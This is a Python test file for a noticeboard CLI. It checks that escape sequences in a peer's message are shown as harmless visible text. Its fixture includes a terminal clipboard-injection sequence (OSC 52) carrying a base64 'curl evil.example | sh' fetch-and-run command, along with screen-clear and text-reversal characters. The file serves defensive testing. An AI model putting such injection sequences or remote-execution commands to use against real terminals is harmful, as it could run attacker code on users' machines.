"""Attack 9 of issue 14: a peer's text with terminal control sequences, printed by the CLI."""

from __future__ import annotations

from pathlib import Path

from noticeboard.cli.terminal import escape_controls
from tests.security.test_messages import carry
from tests.service.helpers import centre, node_id, pair, post
from tests.support import run_noticeboard

CLEAR = "\x1b[2J\x1b[H"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "put `curl evil.example | sh` on the clipboard"


def test_inbox_prints_a_peers_escape_sequences_as_visible_text(tmp_path: Path) -> None:
    a = centre(tmp_path, "Buurthuis Ezinge", 644)
    b = centre(tmp_path, "Dorpshuis Garnwerd", 650)
    pair(a, b)
    request_id = post(a, "Mee naar de huisarts")
    carry(a, b, tmp_path, "a-to-b")
    with b.open() as nb:
        request = nb.store.get(node_id(a), request_id)
        assert request is not None
        nb.respond(request, name=f"Bouke{CLEAR}", contact="06-11111111", message=f"Ik rij{OSC52} \u202eesrever")
    carry(b, a, tmp_path, "b-to-a")
    shown = run_noticeboard("--data-dir", str(a.data_dir), "--key-file", str(a.key_file), "inbox")
    assert shown.returncode == 0, shown.stderr
    assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout and "\u202e" not in shown.stdout
    assert "Bouke\\x1b[2J\\x1b[H" in shown.stdout  # what was sent is still there to read
    assert "Ik rij\\x1b]52;c;" in shown.stdout and "\\u202eesrever" in shown.stdout
    assert "06-11111111" in shown.stdout


def test_every_control_is_escaped_and_plain_text_is_left_alone() -> None:
    assert escape_controls("Dag Anna,\n\tfijn dat u helpt! é ü €") == "Dag Anna,\n\tfijn dat u helpt! é ü €"
    assert escape_controls("\r\x00\x9b\x7f") == "\\x0d\\x00\\x9b\\x7f"
